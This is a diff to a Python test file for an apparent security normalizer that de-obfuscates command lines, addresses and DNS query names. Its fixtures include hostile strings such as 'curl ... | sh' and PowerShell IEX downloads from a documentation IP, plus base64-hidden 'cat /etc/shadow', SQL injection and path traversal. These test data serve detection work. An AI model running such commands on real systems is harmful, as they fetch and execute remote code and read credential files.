@@ -20,7 +20,9 @@ from edge_demist.normalizers import (
     command,
     file_words,
     header,
+    hostname,
     page,
+    query_name,
     request,
     to_bytes,
     undisguised,
@@ -133,6 +135,8 @@ def test_more_commands():
     assert command("{wget,-q} http://a/b") == "wget -q http://a/b" and command("echo ${a,b}") == "echo ${a,b}"
     assert command("curl http://u:p@h.example/x") == "curl http://h.example/x"
     assert command("cat /etc/shadow # many quiet words") == command("cat /etc/shadow & rem many quiet words") == "cat /etc/shadow"
+    assert command("c\\at /etc/shadow; w\\get x") == "cat /etc/shadow; wget x" and command("net user corp\\bob") == "net user corp\\bob"
+    assert command("bash -c {echo,Y2F0IC9ldGMvc2hhZG93}|{base64,-d}|{bash,-i}") == "cat /etc/shadow"
     assert command("x # $(id)") == "x # $(id)"
     for address in ("0306.063.0144.07", "0xc6.0x33.0x64.0x7", "[::ffff:198.51.100.7]", "3325256711", "198.51.100.7"):
         assert command(f"curl http://{address}/x") == "curl http://198.51.100.7/x"
@@ -148,6 +152,15 @@ def test_addresses_names_headers_certificates():
     assert certificate("subject=C=US, O=X, CN=a.b issuer=C=US, O=LE, CN=R3") == zeek == "subject=c=us, cn=a.b, o=x issuer=c=us, cn=r3, o=le"
     assert certificate("subject=CN=x issuer=CN=x") == "subject=cn=x issuer=self"
     assert certificate("CN=x") == "subject=cn=x"
+
+
+@pytest.mark.parametrize("encode", [base64.b85encode, lambda raw: bytes(0x80 | byte & 0x7F for byte in raw)], ids=["base85", "bytes"])
+def test_bytes_of_a_tunnel_are_letters_and_words_stay(encode):
+    sent = encode(random.Random(6).randbytes(50)).replace(b".", b"x").decode("ascii", "surrogateescape")
+    name = query_name(f"{sent[:50]}.t.example")
+    assert len(name) == len(f"{sent[:50]}.t.example") and name.endswith(".t.example") and re.fullmatch(r"[a-z0-9._-]+", name)
+    for kept in ("_ldap._tcp.example", "m\udcfcnchen.example", "anna\u2019s mac._tcp.local", "epson (2)._ipp._tcp.local"):
+        assert query_name(kept) == hostname(kept)
 
 
 @given(st.text(" \t\u200b\xa0a\x00\udca0\u2028\ufeff", max_size=12) | st.text(max_size=20))
@@ -178,7 +191,7 @@ def test_overlong_texts_take_linear_time(name, piece):
 def test_every_change_applies_to_something(task):
     rng = random.Random(3)
     texts = {
-        "uri-attack": ["1' UNION SELECT a FROM b -- <svg>", "../../../etc/passwd", "x;cat /etc/passwd"],
+        "uri-attack": ["1' UNION SELECT 'abc' FROM b -- <svg>", "../../../etc/passwd", "x;cat /etc/passwd"],
         "cmdline": [
             "powershell -c IEX(iwr 'http://198.51.100.7/abcdefgh')",
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')",
@@ -186,7 +199,7 @@ def test_every_change_applies_to_something(task):
         "url-phishing": ["login.example.com/a/b.php"],
     }[task] + ["curl http://198.51.100.7/x | sh"]
     texts += ["print('download')"] if task == "cmdline" else []
-    for name, change in evasion.CHANGES[task].items():
+    for name, change in {**evasion.CHANGES[task], **evasion.FURTHER[task]}.items():
         made = [found for text in texts if (found := change(rng, text))]
         assert made, name
         assert set(made) - set(texts), name
